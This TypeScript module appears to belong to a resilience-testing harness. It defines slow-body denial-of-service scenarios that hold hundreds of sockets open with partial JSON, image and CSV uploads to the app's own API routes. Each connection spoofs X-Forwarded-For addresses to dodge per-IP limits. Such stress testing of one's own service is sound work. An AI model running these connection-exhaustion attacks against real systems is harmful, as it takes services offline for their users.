import { type Attack, type AttackContext, strangerAddress } from '../attack.ts';
import { headOf, holdSockets } from '../bare-socket.ts';

const FORM = 'multipart/form-data; boundary=stalled';
const fileHead = (name: string, type: string) =>
  `--stalled\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n`;

interface Stall {
  readonly wanted: number;
  readonly path: string;
  readonly type: string;
  readonly opening: string;
  readonly sentBytes: number;
  readonly statedBytes: number;
}

/** Opens connections that declare a length, send part of it and stall; each from a network of its own. */
function stall(context: AttackContext, { wanted, path, type, opening, sentBytes, statedBytes }: Stall): Promise<unknown> {
  const filling = Buffer.alloc(Math.max(1, sentBytes - opening.length), 'x');
  return holdSockets(context, {
    what: `${type.split(';')[0]} to ${path}`,
    wanted: context.count(wanted),
    perTick: 4,
    begin: (socket, at) => {
      socket.resume();
      socket.write(headOf('POST', path, { 'X-Forwarded-For': strangerAddress(at), 'Content-Type': type, 'Content-Length': statedBytes }));
      socket.write(opening);
      socket.write(filling);
    },
  });
}

export const stalledJson: Attack = {
  name: 'stalled-json',
  description: '500 JSON bodies that stop half-way',
  seconds: 8,
  run: async (context) => {
    const body = { type: 'application/json', opening: '{"items":[', sentBytes: 30_000, statedBytes: 60_000 };
    await Promise.all([
      stall(context, { wanted: 250, path: '/api/cart/price', ...body }),
      stall(context, { wanted: 250, path: '/api/quotes', ...body }),
    ]);
  },
};

export const stalledPictures: Attack = {
  name: 'stalled-pictures',
  description: '120 pictures of 9.5 MB that stop before their last byte, from 120 networks',
  seconds: 10,
  run: async (context) => {
    const picture = { sentBytes: 9_500_000, statedBytes: 9_900_000 };
    await Promise.all([
      stall(context, { wanted: 60, path: '/api/images', type: 'image/jpeg', opening: '\xff\xd8\xff', ...picture }),
      stall(context, { wanted: 60, path: '/api/images', type: FORM, opening: fileHead('a.jpg', 'image/jpeg'), ...picture }),
    ]);
  },
};

export const stalledImports: Attack = {
  name: 'stalled-imports',
  description: '200 import files that stop in the middle, from 200 networks',
  seconds: 8,
  run: async (context) => {
    const opening = `${fileHead('a.csv', 'text/csv')}sku,name,description,category,price,moq,stock\n`;
    await stall(context, {
      wanted: 200,
      path: '/api/listings/import',
      type: FORM,
      opening,
      sentBytes: 2_000_000,
      statedBytes: 90_000_000,
    });
  },
};
